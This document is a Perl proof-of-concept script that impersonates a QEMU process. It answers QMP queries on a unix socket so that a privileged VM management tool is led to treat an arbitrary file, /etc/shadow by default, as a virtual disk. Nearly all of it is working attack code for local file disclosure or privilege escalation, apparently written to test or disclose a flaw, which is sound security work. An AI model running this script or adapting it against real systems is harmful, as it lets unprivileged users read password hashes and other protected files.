#!/usr/bin/perl
# A hostile stand-in for QEMU, as a local user could run one: started with argv[0] set to
# "qemu-system-x86_64" (bash: exec -a), it takes QEMU's -name, -qmp unix:<path> and -drive file=<path>
# options and answers enough QMP (greeting, qmp_capabilities, query-name, query-block, query-jobs) to
# report <path> (e.g. /etc/shadow) as its disk. Only perl-base (Essential on Debian) is needed.
use strict;
use warnings;
use IO::Socket::UNIX;
use Socket qw(SOCK_STREAM);

my ($name, $socket, $disk) = ('fake', undef, '/etc/shadow');
for (my $i = 0; $i < @ARGV - 1; $i++) {
    $name = $ARGV[$i + 1] if $ARGV[$i] eq '-name';
    ($socket) = $ARGV[$i + 1] =~ /^unix:([^,]+)/ if $ARGV[$i] eq '-qmp';
    ($disk) = $ARGV[$i + 1] =~ /file=([^,]+)/ if $ARGV[$i] eq '-drive';
}
die "usage: fake-qemu.pl -name <vm> -qmp unix:<path> -drive file=<path>\n" unless defined $socket;

my $server = IO::Socket::UNIX->new(Type => SOCK_STREAM, Local => $socket, Listen => 1) or die "cannot listen on $socket: $!\n";
while (my $client = $server->accept()) {
    $client->autoflush(1);
    print $client qq({"QMP": {"version": {"qemu": {"micro": 22, "minor": 2, "major": 7}, "package": ""}, "capabilities": []}}\r\n);
    while (my $line = <$client>) {
        my ($id) = $line =~ /"id":\s*(\d+)/;
        my $reply = '{}';
        if ($line =~ /"query-block"/) {
            $reply = qq([{"device": "disk0", "qdev": "/machine/peripheral-anon/device[0]/virtio-backend", "locked": false, "removable": false, "type": "unknown", )
                . qq("inserted": {"ro": false, "drv": "raw", "node-name": "disk0fmt", "file": "$disk", "backing_file_depth": 0, )
                . qq("image": {"filename": "$disk", "format": "raw", "virtual-size": 1048576}}}]);
        }
        elsif ($line =~ /"query-jobs"/) {
            $reply = '[]';
        }
        elsif ($line =~ /"query-name"/) {
            $reply = qq({"name": "$name"});
        }
        print $client '{"return": ' . $reply . (defined $id ? qq(, "id": $id) : '') . "}\r\n";
    }
}
